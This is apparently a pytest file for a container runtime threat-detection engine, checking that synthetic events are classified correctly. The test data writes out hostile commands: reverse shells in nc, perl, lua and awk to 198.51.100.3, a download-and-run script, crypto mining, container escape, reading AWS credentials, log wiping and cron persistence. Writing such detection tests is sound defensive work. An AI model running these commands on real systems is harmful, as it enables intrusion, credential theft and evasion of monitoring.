"""Attack variants written apart from the rules' own examples: behaviour, not exact strings."""

from __future__ import annotations

from typing import Any

import pytest

from ecsguard.runtime import Engine, load_engine
from ecsguard.runtime.examples import example_sequences

ENGINE: Engine = load_engine(window_ms=0)


def _p(cmd: str, parent: str = "sh", exe: str | None = None, **extra: Any) -> dict[str, Any]:
    name = cmd.split()[0].rsplit("/", 1)[-1]
    return {
        "class_uid": 1007,
        "process": {
            "name": name,
            "cmd_line": cmd,
            "file": {"path": exe or f"/usr/bin/{name}"},
            **extra,
        },
        "actor": {"process": {"name": parent}},
    }


VARIANTS: list[tuple[str, Any]] = [
    (
        "Execution:Runtime/ReverseShell",
        _p("sh -c nc 198.51.100.3 80 | /bin/sh | nc 198.51.100.3 81"),
    ),
    (
        "Execution:Runtime/ReverseShell",
        _p(
            'perl -MIO -e $c=new IO::Socket::INET(PeerAddr,"198.51.100.3:53");STDIN->fdopen($c,r);system$_ while<>'
        ),
    ),
    (
        "Execution:Runtime/ReverseShell",
        _p(
            "lua -e require('socket');t=socket.tcp();t:connect('198.51.100.3','4242');os.execute('/bin/sh -i <&3 >&3 2>&3')"
        ),
    ),
    (
        "Execution:Runtime/ReverseShell",
        _p('awk BEGIN {s = "/inet/tcp/0/198.51.100.3/4242"; while(42) {printf "> " |& s}}'),
    ),
    (
        "Execution:Runtime/SuspiciousShellCreated",
        _p("/bin/bash", parent="php-fpm7.4", exe="/bin/bash"),
    ),
    (
        "Execution:Runtime/SuspiciousShellCreated",
        {
            **_p("sh -c whoami", exe="/bin/sh"),
            "actor": {
                "process": {"name": "python3", "cmd_line": "python3 /srv/app.py --port 8000"}
            },
        },
    ),
    (
        "Execution:Runtime/SuspiciousTool",
        _p("/tmp/.t/ligolo-ng -connect 198.51.100.3:11601 -ignore-cert", exe="/tmp/.t/ligolo-ng"),
    ),
    (
        "Execution:Runtime/SuspiciousCommand",
        _p("bash -c wget -q -O /tmp/k.sh http://198.51.100.3/k.sh; sh /tmp/k.sh"),
    ),
    (
        "Execution:Runtime/SuspiciousCommand",
        _p("perl -e use MIME::Base64;eval(decode_base64('c3lzdGVtKCJpZCIp'))"),
    ),
    (
        "Impact:Runtime/CryptoMinerExecuted",
        _p(
            "/var/tmp/.sys/dbused -o stratum+tcp://198.51.100.9:3333 --threads 2",
            exe="/var/tmp/.sys/dbused",
        ),
    ),
    (
        "Execution:Runtime/NewBinaryExecuted",
        [
            {
                "class_uid": 1001,
                "activity_id": 6,
                "actor": {"process": {"name": "chmod"}},
                "file": {"path": "/tmp/.cache/upd"},
            },
            _p("/tmp/.cache/upd", exe="/tmp/.cache/upd"),
        ],
    ),
    (
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        _p("sh -c DOCKER_HOST=tcp://172.17.0.1:2375 docker ps"),
    ),
    (
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        _p("mount -o bind /host/etc /mnt/etc", exe="/bin/mount"),
    ),
    (
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        {
            "class_uid": 1001,
            "activity_id": 1,
            "actor": {"process": {"name": "tee"}},
            "file": {"path": "/sys/fs/cgroup/memory/x/notify_on_release"},
        },
    ),
    (
        "PrivilegeEscalation:Runtime/SuspiciousCommand",
        _p("chmod 04755 /tmp/.rootbash", exe="/bin/chmod"),
    ),
    ("DefenseEvasion:Runtime/SuspiciousCommand", _p("sh -c truncate -s 0 /var/log/syslog")),
    ("DefenseEvasion:Runtime/SuspiciousCommand", _p("systemctl disable --now amazon-ssm-agent")),
    (
        "DefenseEvasion:Runtime/FilelessExecution",
        _p("/proc/self/fd/5", exe="/memfd:payload (deleted)"),
    ),
    (
        "Discovery:Runtime/SuspiciousCommand",
        _p("aws sts get-caller-identity --output json", parent="bash"),
    ),
    ("Discovery:Runtime/SuspiciousCommand", _p("cat /root/.aws/credentials")),
    ("Persistence:Runtime/SuspiciousCommand", _p("sh -c echo '@reboot /tmp/.x' | crontab -")),
    (
        "Persistence:Runtime/SuspiciousCommand",
        {
            "class_uid": 1001,
            "activity_id": 5,
            "actor": {"process": {"name": "mv"}},
            "file": {"path": "/tmp/x"},
            "file_result": {"path": "/etc/cron.d/x"},
            "unmapped": {"syscall": "rename"},
        },
    ),
    (
        "UnauthorizedAccess:Runtime/TorClient",
        {
            "class_uid": 4001,
            "actor": {"process": {"name": "curl"}},
            "dst_endpoint": {"ip": "198.51.100.44", "port": 9050},
            "connection_info": {"direction_id": 2},
        },
    ),
    (
        "Impact:Runtime/AbusedDomainRequest.Reputation",
        {
            "class_uid": 4003,
            "actor": {"process": {"name": "python3"}},
            "query": {"hostname": "a1b2.serveo.net"},
        },
    ),
    (
        "Trojan:Runtime/DGADomainRequest.C!DNS",
        {
            "class_uid": 4003,
            "actor": {"process": {"name": "java"}},
            "query": {"hostname": "wkqzxvtrbplmfn7c.org"},
        },
    ),
]


@pytest.mark.parametrize(
    ("expected", "example"),
    VARIANTS,
    ids=[f"{i}-{t.split('/')[-1]}" for i, (t, _) in enumerate(VARIANTS)],
)
def test_variant_is_typed(expected: str, example: Any) -> None:
    (sequence,) = list(example_sequences([example]))
    ENGINE.reset()
    for event in sequence[:-1]:
        ENGINE.process(event)
    found = {a.finding_type for a in ENGINE.process(sequence[-1])}
    assert expected in found, found
